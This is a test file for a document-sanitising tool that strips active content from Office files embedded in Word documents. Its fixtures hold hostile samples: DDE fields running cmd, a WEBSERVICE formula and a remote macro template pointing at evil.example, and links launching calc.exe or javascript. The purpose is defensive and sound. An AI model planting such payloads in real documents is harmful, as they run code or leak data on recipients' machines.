import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { officePackage } from '../../disarm/office-package.fixture.ts'
import { scanPackage } from '../../disarm/package-scan.fixture.ts'
import { findNamesInPackage } from '../../names/scan-package.ts'
import { relationships } from '../../disarm/hostile-markup.fixture.ts'
import { paragraph } from '../../package/word-file.fixture.ts'
import type { WordFile } from '../../package/word-file.fixture.ts'
import { ContentTypes } from '../../package/parts/content-types.ts'
import { parseXml } from '../../package/xml/xml-reader.ts'
import { ZipReader } from '../../package/zip/zip-reader.ts'
import { activePartsOf } from './embedded-active.ts'
import { composeFiles } from '../composed-file.fixture.ts'
import { inside, OOXML, REL, S, typed, W } from './embedded-file.fixture.ts'

const workbook = officePackage(
  typed(
    {
      '_rels/.rels': inside([['rId1', 'officeDocument', 'xl/workbook.xml']]),
      'xl/workbook.xml': `<workbook ${S} xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="far">[1]a!A1</definedName></definedNames></workbook>`,
      'xl/_rels/workbook.xml.rels': inside([
        ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
        ['rId2', 'externalLink', 'externalLinks/externalLink1.xml'],
        ['rId3', 'connections', 'connections.xml'],
      ]),
      'xl/worksheets/sheet1.xml': `<worksheet ${S}><sheetData><row r="1"><c r="A1"><f>[1]a!A1</f><v>41</v></c><c r="B1"><f>SUM(A1)</f><v>42</v></c><c r="C1"><f>_xlfn.WEBSERVICE("http://evil.example")</f><v>43</v></c></row></sheetData></worksheet>`,
      'xl/externalLinks/externalLink1.xml': `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      'xl/connections.xml': `<connections ${S}><connection id="1" name="c" type="1" refreshedVersion="6" refreshOnLoad="1"><dbPr connection="DSN=x" command="select"/></connection></connections>`,
    },
    { 'xl/workbook.xml': `${OOXML}spreadsheetml.sheet.main+xml` },
  ),
)

const document = officePackage(
  typed(
    {
      '_rels/.rels': inside([['rId1', 'officeDocument', 'word/document.xml']]),
      'word/document.xml': `<w:document ${W} xmlns:r="${REL}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd x </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>inner result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:hyperlink r:id="rId1"><w:r><w:t>inner link</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': relationships([['rId1', 'hyperlink', 'file:///C:/x.exe']]).replace(
        '</Relationships>',
        `<Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
      ),
      'word/settings.xml': `<w:settings ${W} xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
      'word/_rels/settings.xml.rels': relationships([
        ['rId1', 'attachedTemplate', 'http://evil.example/t.dotm'],
      ]),
      'word/vbaProject.bin': 'macros',
    },
    {
      'word/document.xml': `${OOXML}wordprocessingml.document.main+xml`,
      'word/settings.xml': `${OOXML}wordprocessingml.settings+xml`,
      'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject',
    },
  ),
)

const source: WordFile = {
  body: `${paragraph('text')}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Excel.Sheet.12" r:id="rIdX"/></w:object></w:r></w:p><w:altChunk r:id="rIdD"/><w:p/>`,
  parts: [
    {
      name: 'word/embeddings/book.xlsx',
      data: workbook,
      kind: 'package',
      contentType: `${OOXML}spreadsheetml.sheet`,
      id: 'rIdX',
    },
    {
      name: 'word/inner.docx',
      data: document,
      kind: 'aFChunk',
      contentType: `${OOXML}wordprocessingml.document.main+xml`,
      id: 'rIdD',
    },
  ],
}

test('embedded Office files are disarmed, and their visible content stays', async () => {
  await composeFiles({ a: source }, {}, async ({ path, partNames, report, document: composed }) => {
    expect(scanPackage(path)).toEqual([])
    expect(report.ledger.unexplained).toBe(0)
    expect(partNames).toEqual(expect.arrayContaining(['word/embeddings/book.xlsx', 'word/inner.docx']))
    const told = report.disarmed.pieces.map(({ kind, part }) => [kind, part.split(' › ')[1]])
    expect(told).toEqual(
      expect.arrayContaining([
        ['linked-object', 'xl/externalLinks/externalLink1.xml'],
        ['data-connection', 'xl/connections.xml'],
        ['linked-object', 'xl/worksheets/sheet1.xml'],
        ['field', 'word/document.xml'],
        ['link', 'word/document.xml'],
        ['macro', 'word/document.xml'],
        ['remote-template', 'word/settings.xml'],
      ]),
    )
    const inner = (await composed.partBytes('word/inner.docx')).length
    expect(inner).toBeGreaterThan(0)
  })
})

const P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
const A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
const run = (text: string, link = ''): string =>
  `<a:p><a:r><a:rPr>${link}</a:rPr><a:t>${text}</a:t></a:r></a:p>`
const slide = (inner: string): string =>
  `<p:sld ${P} ${A} xmlns:r="${REL}"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="s"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>${inner}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>`
const presentation = (first: string, second: string, related: [id: string, kind: string, target: string][]) =>
  officePackage(
    typed(
      {
        '_rels/.rels': inside([['rId1', 'officeDocument', 'ppt/presentation.xml']]),
        'ppt/presentation.xml': `<p:presentation ${P} xmlns:r="${REL}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/><p:sldId id="257" r:id="rId2"/></p:sldIdLst></p:presentation>`,
        'ppt/_rels/presentation.xml.rels': inside([
          ['rId1', 'slide', 'slides/slide1.xml'],
          ['rId2', 'slide', 'slides/slide2.xml'],
        ]),
        'ppt/slides/slide1.xml': slide(first),
        'ppt/slides/_rels/slide1.xml.rels': relationships(related),
        'ppt/slides/slide2.xml': slide(second),
      },
      {
        'ppt/presentation.xml': `${OOXML}presentationml.presentation.main+xml`,
        'ppt/slides/slide1.xml': `${OOXML}presentationml.slide+xml`,
        'ppt/slides/slide2.xml': `${OOXML}presentationml.slide+xml`,
      },
    ),
  )
const showing = (data: Buffer): WordFile => ({
  body: `${paragraph('text')}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="PowerPoint.Show.12" r:id="rIdP"/></w:object></w:r></w:p>`,
  parts: [
    {
      name: 'word/embeddings/slides.pptx',
      data,
      kind: 'package',
      contentType: `${OOXML}presentationml.presentation`,
      id: 'rIdP',
    },
  ],
})

test('an embedded presentation is disarmed: programs, macros and linked media go, words stay', async () => {
  const hostile = presentation(
    run('first', '<a:hlinkClick r:id="rId1" action="ppaction://program"/>') +
      run('film', '<a:hlinkClick r:id="rId2"/>') +
      `<a:ext><p:nvPr><a:videoFile r:link="rId3"/></p:nvPr></a:ext>`,
    run('second', '<a:hlinkClick r:id="" action="ppaction://macro?name=Run"/>'),
    [
      ['rId1', 'hyperlink', 'file:///C:/Windows/calc.exe'],
      ['rId2', 'hyperlink', 'javascript:alert(1)'],
      ['rId3', 'video', 'http://evil.example/film.mp4'],
      ['rId4', 'oleObject', 'file:///C:/secret.xlsx'],
    ],
  )
  await composeFiles({ a: showing(hostile) }, {}, async ({ path, report }) => {
    expect(scanPackage(path)).toEqual([])
    expect(report.ledger.unexplained).toBe(0)
    const told = new Set(report.disarmed.pieces.map(({ kind, part }) => `${kind} ${part.split(' › ')[1]}`))
    expect([...told].toSorted()).toEqual([
      'link ppt/slides/slide1.xml',
      'link ppt/slides/slide2.xml',
      'linked-media ppt/slides/slide1.xml',
      'linked-object ppt/slides/slide1.xml',
    ])
    const words = await findNamesInPackage(path, ['first', 'film', 'second'])
    expect(words.map(({ found }) => found).toSorted()).toEqual(['film', 'first', 'second'])
  })
})

test('names in an embedded presentation are replaced, and unlisted names are found', async () => {
  const slides = presentation(run('Treinamento do Hospital São João'), run('fim'), [])
  const list = [{ from: 'Hospital São João', to: 'Santa Casa' }]
  await composeFiles({ a: showing(slides) }, {}, async ({ path }) => {
    expect(await findNamesInPackage(path, ['Hospital São João'])).toMatchObject([
      {
        story: 'embedded',
        part: 'word/embeddings/slides.pptx › ppt/slides/slide1.xml',
        found: 'Hospital São João',
      },
    ])
  })
  await composeFiles({ a: showing(slides) }, { replacements: list }, async ({ path, report }) => {
    expect(await findNamesInPackage(path, ['Hospital São João'])).toEqual([])
    expect(report.replacements).toHaveLength(1)
    expect(report.unreplaceable).toEqual([])
  })
})

const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject'
const withMacros = (): Buffer =>
  officePackage(
    typed(
      {
        '_rels/.rels': inside([['rId1', 'officeDocument', 'xl/workbook.xml']]),
        'xl/workbook.xml': `<workbook ${S} xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
        'xl/_rels/workbook.xml.rels': inside([
          ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
          ['rId2', 'sheetMetadata', 'macros.bin'],
        ]),
        'xl/macros.bin': 'macros',
        'xl/_rels/macros.bin.rels': inside([['rId1', 'worksheet', 'worksheets/sheet1.xml']]),
        'xl/worksheets/sheet1.xml': `<worksheet ${S}><sheetData/></worksheet>`,
        'xl/worksheets/_rels/sheet1.xml.rels': inside([['rId1', 'VBA', '../macros.bin']]).replace(
          `${REL}/VBA`,
          VBA,
        ),
      },
      {
        'xl/workbook.xml': `${OOXML}spreadsheetml.sheet.main+xml`,
        'xl/worksheets/sheet1.xml': `${OOXML}spreadsheetml.worksheet+xml`,
      },
    ),
  )

test('a part that one list of relationships shows to be active disappears from the lists before it, too', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'docx-embedded-'))
  onTestFinished(() => rm(folder, { recursive: true }))
  await writeFile(join(folder, 'book.xlsm'), withMacros())
  const zip = await ZipReader.open(join(folder, 'book.xlsm'))
  onTestFinished(() => zip.close())
  const types = new ContentTypes(parseXml(await zip.read(zip.entry('[Content_Types].xml')!)))
  const { parts, relationships: left } = await activePartsOf(zip, types, () => undefined)
  expect([...parts]).toEqual(['xl/macros.bin'])
  expect(left).toEqual(
    new Map([
      ['xl/_rels/workbook.xml.rels', new Set(['rId2'])],
      ['xl/worksheets/_rels/sheet1.xml.rels', new Set(['rId1'])],
    ]),
  )
})

test('removed macros do not count as removed remarks', async () => {
  const inner = officePackage(
    typed(
      {
        '_rels/.rels': inside([['rId1', 'officeDocument', 'word/document.xml']]),
        'word/document.xml': `<w:document ${W}><w:body>${paragraph('inner')}</w:body></w:document>`,
        'word/_rels/document.xml.rels': inside([['rId1', 'VBA', 'vbaProject.bin']]).replace(
          `${REL}/VBA`,
          VBA,
        ),
        'word/vbaProject.bin': 'macros',
        'word/_rels/vbaProject.bin.rels': inside([['rId1', 'wordVbaData', 'vbaData.xml']]),
      },
      { 'word/document.xml': `${OOXML}wordprocessingml.document.main+xml` },
    ),
  )
  const file = {
    body: `${paragraph('text')}<w:altChunk r:id="rIdD"/><w:p/>`,
    parts: source.parts?.slice(1).map((part) => Object.assign({}, part, { data: inner })) ?? [],
  }
  await composeFiles({ a: file }, {}, async ({ path, report }) => {
    expect(scanPackage(path)).toEqual([])
    expect(report.disarmed.pieces.map(({ kind }) => kind)).toContain('macro')
    expect(report.notices.map(({ reason }) => reason)).not.toContain('embedded-remarks-dropped')
  })
})

test('an embedded file without active content keeps its bytes', async () => {
  const calm = officePackage({ 'xl/worksheets/sheet1.xml': `<worksheet ${S}><f>SUM(A1:A2)</f></worksheet>` })
  const [book] = source.parts ?? []
  const file = {
    ...source,
    body: source.body.replace('<w:altChunk r:id="rIdD"/>', ''),
    parts: [] as WordFile['parts'],
  }
  if (book) file.parts = [{ ...book, data: calm }]
  await composeFiles({ a: file }, {}, async ({ document: composed, report }) => {
    expect((await composed.partBytes('word/embeddings/book.xlsx')).equals(calm)).toBe(true)
    expect(report.disarmed.total).toBe(0)
  })
})
